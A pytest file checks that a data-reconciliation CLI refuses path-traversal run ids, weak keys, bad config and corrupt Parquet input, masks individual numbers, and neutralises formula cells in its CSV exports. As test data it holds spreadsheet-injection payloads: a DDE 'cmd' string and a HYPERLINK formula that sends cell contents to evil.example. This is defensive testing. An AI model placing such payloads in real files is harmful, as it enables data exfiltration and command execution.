"""Hostile and faulty inputs (issue 23): each case checks the exit status, the one-line
message and that nothing was published when the run was refused; the lenient cases check
what the run made of the input instead.

The refusals run the CLI in-process (click's CliRunner) on tiny inputs and reuse the
session's Spark; one reconciliation of a hostile input (a record id that is a valid number,
formulas in record ids, an apostrophe and spaces around numbers, an all-null column typed
int, the files Spark skips) is run once for the module and read back from every output.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from click.testing import CliRunner

from jobs.cli import main
from jobs.tokens import is_valid_number, token_of
from tests.helpers import (CAT_COLS, SMALL_REGISTER, number, record_from, write_category, write_residents,
                           write_small_input)

KEY = os.environ["TENKEN_TOKEN_KEY"].encode()

RES = SMALL_REGISTER
_good = write_small_input


def _reconcile(inp: Path, out: Path, *extra: str, env: dict | None = None):
    return CliRunner().invoke(main, ["-q", "reconcile", "--input", str(inp), "--output", str(out), *extra],
                              env=env)


def _one_line(res) -> str:
    lines = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("tenken: error: "), res.stderr
    assert "An error occurred while calling" not in lines[0] and "Traceback" not in res.stderr
    return lines[0]


def _nothing_published(out: Path) -> None:
    for table in ("suspects", "runs", "quarantine", "corrections", "models"):
        assert not (out / table).exists(), table


# --- refusals: (build the case) -> (extra CLI args, env, exit status, message) -------------------

def run_id_parent(tmp: Path):
    return ["--run-id", "../x"], None, 2, "invalid run id '../x'"


def run_id_slash(tmp: Path):
    return ["--run-id", "a/b"], None, 2, "invalid run id 'a/b'"


def run_id_newline(tmp: Path):
    return ["--run-id", "r1\nr2"], None, 2, r"invalid run id 'r1\nr2'"


def run_id_too_long(tmp: Path):
    return ["--run-id", "r" * 500], None, 2, "invalid run id 'rrrr"


def run_id_dots(tmp: Path):
    return ["--run-id", ".."], None, 2, "invalid run id '..'"


def run_id_absolute(tmp: Path):
    return ["--run-id", str(tmp / "abs")], None, 2, "invalid run id"


def key_one_byte(tmp: Path):
    return [], {"TENKEN_TOKEN_KEY": "k"}, 2, "token key too short: the environment variable TENKEN_TOKEN_KEY holds 1 byte(s)"


def key_31_bytes(tmp: Path):
    return [], {"TENKEN_TOKEN_KEY": "x" * 31}, 2, "holds 31 byte(s), at least 32 are needed"


def key_file_empty(tmp: Path):
    (tmp / "empty.key").write_text("\n")
    conf = tmp / "key.yaml"
    conf.write_text(f"tokens:\n  key_file: {tmp / 'empty.key'}\n")
    return ["--conf", str(conf)], None, 2, "holds 0 byte(s)"


def key_file_missing(tmp: Path):
    conf = tmp / "key.yaml"
    conf.write_text(f"tokens:\n  key_file: {tmp / 'nope.key'}\n")
    return ["--conf", str(conf)], None, 2, "cannot be read: No such file or directory"


def config_typed_value(tmp: Path):
    conf = tmp / "over.yaml"
    conf.write_text("run:\n  broadcast_value_rows: lots\n")
    return ["--conf", str(conf)], None, 2, "config over.yaml: run.broadcast_value_rows: 'lots' is not an integer"


def config_unknown_key(tmp: Path):
    conf = tmp / "over.yaml"
    conf.write_text("run:\n  broadcast_value_row: 10\n")
    return (["--conf", str(conf)], None, 2,
            "config over.yaml: unknown key run.broadcast_value_row (did you mean broadcast_value_rows?)")


def config_negative(tmp: Path):
    conf = tmp / "over.yaml"
    conf.write_text("run:\n  broadcast_register_rows: -5\n")
    return ["--conf", str(conf)], None, 2, "run.broadcast_register_rows: -5 is out of range (must be >= 0)"


def config_bad_choice(tmp: Path):
    conf = tmp / "over.yaml"
    conf.write_text("run:\n  checkpoint: reliabel\n")
    return ["--conf", str(conf)], None, 2, "run.checkpoint: 'reliabel' is not one of local, reliable (did you mean reliable?)"


def _side_file(tmp: Path, key: str, name: str, data: dict):
    (tmp / name).write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    conf = tmp / "over.yaml"
    conf.write_text(f"{key}: {name}\n")
    return ["--conf", str(conf)]


def _conf_yaml(name: str) -> dict:
    from jobs.config import _conf_dir
    return yaml.safe_load((_conf_dir() / name).read_text(encoding="utf-8"))


def thresholds_out_of_range(tmp: Path):
    th = _conf_yaml("thresholds.yaml")
    th["gates"]["records"]["invalid_number_max"] = 1.5
    return (_side_file(tmp, "thresholds_file", "th.yaml", th), None, 2,
            "config th.yaml: gates.records.invalid_number_max: 1.5 is out of range (must be >= 0 and <= 1)")


def thresholds_unknown_reason(tmp: Path):
    th = _conf_yaml("thresholds.yaml")
    th["reasons"][0]["code"] = "LINKED_TO_HOUSEHOLD_MEMBR"
    return (_side_file(tmp, "thresholds_file", "th.yaml", th), None, 2,
            "reasons[0].code: 'LINKED_TO_HOUSEHOLD_MEMBR' is not one of")


def blocking_typo(tmp: Path):
    bl = _conf_yaml("blocking.yaml")
    bl["max_blok"] = bl.pop("max_block")
    return (_side_file(tmp, "blocking_file", "bl.yaml", bl), None, 2,
            "config bl.yaml: unknown key max_blok (did you mean max_block?)")


def blocking_typed_value(tmp: Path):
    bl = _conf_yaml("blocking.yaml")
    bl["classify"]["accept_probability"] = "high"
    return (_side_file(tmp, "blocking_file", "bl.yaml", bl), None, 2,
            "config bl.yaml: classify.accept_probability: 'high' is not a number")


def categories_wrong_type(tmp: Path):
    cats = _conf_yaml("categories.yaml")
    cats["categories"]["health_insurance"]["one_active"] = "yes"
    return (_side_file(tmp, "categories_file", "cats.yaml", cats), None, 2,
            "config cats.yaml: categories.health_insurance.one_active: 'yes' is not true or false")


def categories_unknown_key(tmp: Path):
    cats = _conf_yaml("categories.yaml")
    cats["categories"]["vaccination"]["max_ag"] = 12
    return (_side_file(tmp, "categories_file", "cats.yaml", cats), None, 2,
            "unknown key categories.vaccination.max_ag (did you mean max_age?)")


def categories_ages_crossed(tmp: Path):
    cats = _conf_yaml("categories.yaml")
    cats["categories"]["vaccination"].update(min_age=50, max_age=20)
    return (_side_file(tmp, "categories_file", "cats.yaml", cats), None, 2,
            "categories.vaccination: min_age 50 is above max_age 20")


REFUSED_BEFORE_READ = [run_id_parent, run_id_slash, run_id_newline, run_id_too_long, run_id_dots, run_id_absolute,
                       key_one_byte, key_31_bytes, key_file_empty, key_file_missing, config_typed_value,
                       config_unknown_key, config_negative, config_bad_choice, thresholds_out_of_range,
                       thresholds_unknown_reason, blocking_typo, blocking_typed_value, categories_wrong_type,
                       categories_unknown_key, categories_ages_crossed]


@pytest.mark.parametrize("case", REFUSED_BEFORE_READ, ids=[f.__name__ for f in REFUSED_BEFORE_READ])
def test_refused_before_anything_is_written(case, tmp_path, spark):
    inp = _good(tmp_path / "in")
    out = tmp_path / "work" / "out"
    args, env, code, message = case(tmp_path)
    res = _reconcile(inp, out, *args, env=env)
    assert res.exit_code == code, (res.exit_code, res.output, res.exception)
    assert message in _one_line(res), res.stderr
    assert not out.exists()                                    # nothing written at all
    assert not (tmp_path / "work" / "x").exists() and not (tmp_path / "abs").exists()
    assert "x" * 31 not in res.stderr                          # never the key


@pytest.mark.parametrize("command", ["report", "changes", "export"])
def test_other_commands_refuse_a_path_as_run_id(command, tmp_path, spark):
    out = tmp_path / "out"
    extra = ["--holder", "health_insurers"] if command == "export" else []
    res = CliRunner().invoke(main, ["-q", command, "--output", str(out), "--run-id", "../../etc", *extra])
    assert res.exit_code == 2 and "invalid run id '../../etc'" in _one_line(res)
    assert not out.exists()


# --- faults in the input files: exit 2 naming the file ---------------------------------------

def stray_readme(root: Path):
    _good(root)
    (root / "categories" / "health_insurance" / "README.txt").write_text("what these files are\n")
    return f"{root}/categories/health_insurance/README.txt: not a Parquet file"


def stray_file_in_csv_folder(root: Path):
    write_residents(root, RES)
    folder = root / "categories" / "national_tax"
    folder.mkdir(parents=True)
    (folder / "part-0.csv").write_text(f"record_id,individual_number\nNT01,{number(1)}\n", encoding="utf-8")
    (folder / "notes.txt").write_text("=cmd|' /C calc'!A0\n")
    return f"{folder}/notes.txt: not a CSV file"


def unreadable_file(root: Path):
    _good(root)
    (root / "categories" / "health_insurance" / "part-1.parquet").symlink_to(root / "gone.parquet")
    return f"cannot read {root}/categories/health_insurance/part-1.parquet: No such file or directory"


def garbage_data_pages(root: Path):
    """A Parquet file whose footer is sound and whose data pages are garbage: the schema reads,
    the rows do not."""
    _good(root)
    folder = root / "categories" / "national_tax"
    folder.mkdir(parents=True)
    table = pa.table({"record_id": [f"NT{i:05d}" for i in range(500)], "individual_number": [number(1)] * 500})
    path = folder / "part-0.parquet"
    pq.write_table(table, path, compression="none")
    raw = bytearray(path.read_bytes())
    end = len(raw) - 8 - int.from_bytes(raw[-8:-4], "little")
    for i in range(8, end):
        raw[i] = (raw[i] * 7 + 13) % 256
    path.write_bytes(bytes(raw))
    return f"cannot read {path}: "


def typed_column_with_values(root: Path):
    _good(root)
    folder = root / "categories" / "national_tax"
    folder.mkdir(parents=True)
    pq.write_table(pa.table({"record_id": ["NT01"], "individual_number": [number(1)], "sex": pa.array([1], pa.int32())}),
                   folder / "part-0.parquet")
    return "categories/national_tax: column sex has type int, expected string"


def hidden_folder_is_not_a_category(root: Path):
    """_temporary and .ipynb_checkpoints are skipped; an unknown visible folder still is an error."""
    _good(root)
    (root / "categories" / "_temporary").mkdir()
    (root / "categories" / ".ipynb_checkpoints").mkdir()
    write_category(root, "no_such_category", [record_from(RES[0], "X1")])
    return "category folder(s) not configured in categories.yaml: no_such_category"


FAULTS = [stray_readme, stray_file_in_csv_folder, unreadable_file, garbage_data_pages, typed_column_with_values,
          hidden_folder_is_not_a_category]


@pytest.mark.parametrize("make", FAULTS, ids=[f.__name__ for f in FAULTS])
def test_faulty_input_is_exit_2_naming_the_file(make, tmp_path, spark):
    inp = tmp_path / "in"
    message = make(inp)
    out = tmp_path / "out"
    res = _reconcile(inp, out)
    assert res.exit_code == 2, (res.exit_code, res.output, res.exception)
    assert message in _one_line(res), res.stderr
    _nothing_published(out)


def test_spark_errors_are_one_line_with_their_cause(spark):
    from jobs.errors import from_spark

    with pytest.raises(Exception) as info:
        spark.read.parquet("/nonexistent/tenken").collect()
    err = from_spark(info.value)
    assert err is not None and err.exit_code == 1
    assert str(err).startswith("[PATH_NOT_FOUND]") and "\n" not in str(err)
    with pytest.raises(Exception) as info:
        spark.sql(f"select raise_error('boom {number(5)}')").collect()
    assert number(5) not in str(from_spark(info.value))          # a number in a message is elided
    assert from_spark(ValueError("x")) is None


# --- lenient where nothing is lost ----------------------------------------------------------------

def _write_null_typed(root: Path, cid: str, rows: list[dict], null_cols: tuple[str, ...]) -> None:
    """Rows as pandas/pyarrow write them when a column holds no value: Parquet type null."""
    data = {c: [r.get(c) for r in rows] for c in CAT_COLS}
    data["birth_date"] = [dt.date.fromisoformat(v) if isinstance(v, str) else v for v in data["birth_date"]]
    types = {"birth_date": pa.date32(), "active": pa.bool_()}
    schema = pa.schema([(c, pa.null() if c in null_cols else types.get(c, pa.string())) for c in CAT_COLS])
    data["active"] = [True] * len(rows)
    for c in null_cols:
        data[c] = [None] * len(rows)
    (root / "categories" / cid).mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table(data, schema=schema), root / "categories" / cid / "part-0.parquet")


def test_all_null_columns_of_any_type_are_absent(tmp_path, spark, cfg):
    from jobs.io import read_inputs

    root = _good(tmp_path / "in")
    _write_null_typed(root, "national_tax", [record_from(RES[1], "NT01")], ("sex", "name_kana", "birth_date"))
    folder = root / "categories" / "mynapoint"
    folder.mkdir(parents=True)
    pq.write_table(pa.table({"record_id": ["MP01"], "individual_number": [number(2)],
                             "sex": pa.array([None], pa.int64()), "active": pa.array([None], pa.float64())}),
                   folder / "part-0.parquet")
    _, records, _ = read_inputs(spark, str(root), cfg)
    rows = {r["record_id"]: r for r in records.collect()}
    assert rows["NT01"]["sex"] is None and rows["NT01"]["name_kanji"] == RES[1]["name_kanji"]
    assert rows["MP01"]["sex"] is None and rows["MP01"]["active"] is None


# --- one reconciliation of a hostile input, read back from every output ----------------------------

NUM_ID = number(901)          # a record id that is itself a valid individual number
DUP_ID = number(902)          # ... repeated in its category (quarantined)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+81-3-1234", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR"]


@pytest.fixture(scope="module")
def hostile(spark, cfg, tmp_path_factory):
    from jobs.changes import build_changes
    from jobs.export import export_holder
    from jobs.pipeline import run

    root = tmp_path_factory.mktemp("hostile")
    inp, out = root / "in", root / "out"
    res = [{**r, "individual_number": number(i + 1)} for i, r in enumerate(RES * 2)]
    for i, r in enumerate(res):
        r["name_kanji"] = f"山田 太郎{i}"
    write_residents(inp, res)
    hi = [
        # a wrong link, keyed by a valid individual number: a suspect whose record id is a token
        record_from(res[0], NUM_ID, individual_number=number(777)),
        # a spreadsheet's apostrophe, spaces around a number: folded, quarantined as folded
        record_from(res[1], "HI-APOS", individual_number="'" + res[1]["individual_number"]),
        record_from(res[2], "HI-SPACE", individual_number="  " + res[2]["individual_number"] + "\u3000"),
    ] + [record_from(res[3], f, individual_number=None) for f in FORMULAS]   # unlinked: suspects
    write_category(inp, "health_insurance", hi)
    # national_tax written as pandas writes a column that holds no value (Parquet type null)
    _write_null_typed(inp, "national_tax", [record_from(res[4], DUP_ID), record_from(res[5], DUP_ID),
                                            record_from(res[4], "NT-OK")], ("sex",))
    # what Spark skips: _SUCCESS, .crc, hidden and underscore folders
    (inp / "residents" / "_SUCCESS").write_text("")
    # (a .crc beside its own data file is Hadoop's checksum of it, and is verified)
    (inp / "categories" / "health_insurance" / ".part-9.parquet.crc").write_bytes(b"\x00garbage")
    (inp / "categories" / "health_insurance" / "_SUCCESS").write_text("")
    (inp / "categories" / "_temporary").mkdir()
    (inp / "categories" / ".ipynb_checkpoints").mkdir()
    summary = run({**cfg, "run": {"reference_date": dt.date(2026, 11, 26)}}, str(inp), str(out), "h1")
    ctx, _ = build_changes(spark, str(out), "h1")
    exports = {enc: export_holder(spark, cfg, str(out), "health_insurers", run_id="h1", dest=str(root / enc),
                                  encoding=enc) for enc in ("utf-8-sig", "cp932")}
    return {"summary": summary, "out": out, "root": root, "exports": exports}


def _table(spark, out: Path, name: str):
    return [r.asDict(recursive=True) for r in spark.read.format("delta").load(str(out / name)).collect()]


def test_record_id_that_is_a_number_is_its_token_everywhere(hostile, spark):
    out = hostile["out"]
    tok, dup_tok = token_of(KEY, NUM_ID), token_of(KEY, DUP_ID)
    sus = {r["record_id"]: r for r in _table(spark, out, "suspects")}
    assert tok in sus and sus[tok]["reason"] == "UNKNOWN_NUMBER"
    quarantine = _table(spark, out, "quarantine")
    assert {r["record_id"] for r in quarantine if r["reason"] == "duplicate_record_id"} == {dup_tok}
    changes = {r["record_id"] for r in _table(spark, out, "changes")}
    assert tok in changes
    for res in hostile["exports"].values():
        assert tok in {r["record_id"] for r in pq.read_table(res["parquet"]).to_pylist()}
    # the runs row counts the cells replaced: the record id, and the repeated one twice
    runs = _table(spark, out, "runs")
    assert runs[0]["figures"]["replaced_identifiers"] == 3 == hostile["summary"]["figures"]["replaced_identifiers"]


def test_no_valid_number_in_any_output_file(hostile, spark):
    """Every table's every string (evidence included) and every file's bytes: no 12-digit
    value passing the check digit, neither the record ids' nor the residents'."""
    out = hostile["out"]
    for name in ("suspects", "quarantine", "corrections", "changes", "runs", "models"):
        if not (out / name).exists():
            continue
        text = repr(_table(spark, out, name))
        assert not [m for m in re.findall(r"(?<!\d)\d{12}(?!\d)", text) if is_valid_number(m)], name
    secrets = [NUM_ID, DUP_ID] + [number(i) for i in range(1, 7)]
    for path in [*hostile["out"].rglob("*"), *hostile["root"].joinpath("cp932").rglob("*"),
                 *hostile["root"].joinpath("utf-8-sig").rglob("*")]:
        if path.is_file():
            blob = path.read_bytes()
            assert not [s for s in secrets if s.encode() in blob], path


def test_apostrophe_and_spaces_in_a_number_are_folded_and_quarantined(hostile, spark):
    q = {(r["record_id"], r["reason"], r["action"]) for r in _table(spark, hostile["out"], "quarantine")}
    assert ("HI-APOS", "leading_apostrophe", "folded") in q
    assert ("HI-SPACE", "surrounding_spaces", "folded") in q
    sus = {r["record_id"] for r in _table(spark, hostile["out"], "suspects")}
    # folded to the resident's number: linked right, so neither is a suspect (nor an invalid number)
    assert "HI-APOS" not in sus and "HI-SPACE" not in sus


def test_all_null_typed_column_and_skipped_files_do_not_stop_the_run(hostile):
    s = hostile["summary"]
    assert s["status"] == "published"
    cats = {c["category"]: c for c in s["categories"]}
    assert set(cats) == {"health_insurance", "national_tax"}
    assert cats["national_tax"]["input_rows"] == 3 and cats["health_insurance"]["input_rows"] == 9


def _csv_cells(res) -> list[dict]:
    enc = "utf-8-sig" if res["encoding"] == "utf-8-sig" else "cp932"
    raw = open(res["csv"], "rb").read()
    if enc == "utf-8-sig":
        assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode(enc), newline="")))


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_export_neutralises_every_formula_cell(hostile, encoding):
    res = hostile["exports"][encoding]
    rows = _csv_cells(res)
    ids = {r["record_id"] for r in rows}
    for f in FORMULAS:                                   # each dangerous prefix: = + - @ tab CR
        assert "'" + f in ids, (f, ids)
    danger = ("=", "+", "-", "@", "\t", "\r")
    for r in rows:
        for v in r.values():
            assert not v.startswith(danger), (encoding, v)
    # the Parquet file keeps the values as they are
    assert set(FORMULAS) <= {r["record_id"] for r in pq.read_table(res["parquet"]).to_pylist()}


def test_neutralise_unit():
    from jobs.export import neutralise

    assert [neutralise(x) for x in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "＝1", "a=1", "", "'=x")] == \
        ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "'＝1", "a=1", "", "'=x"]


def test_account_key_that_is_a_number_is_masked(spark, cfg):
    from jobs.tokens import MASKED_COUNT, key_frame, mask_numbers

    df = spark.createDataFrame([("A1", number(3)), (number(4), "0009-100-1-1"), (" " + number(5), None)],
                               "record_id string, account_key string")
    rows = mask_numbers(df, key_frame(spark, KEY), ("record_id", "account_key")).orderBy(MASKED_COUNT).collect()
    got = sorted((r["record_id"], r["account_key"], r[MASKED_COUNT]) for r in rows)
    assert got == sorted([("A1", token_of(KEY, number(3)), 1), (token_of(KEY, number(4)), "0009-100-1-1", 1),
                          (token_of(KEY, number(5)), None, 1)])
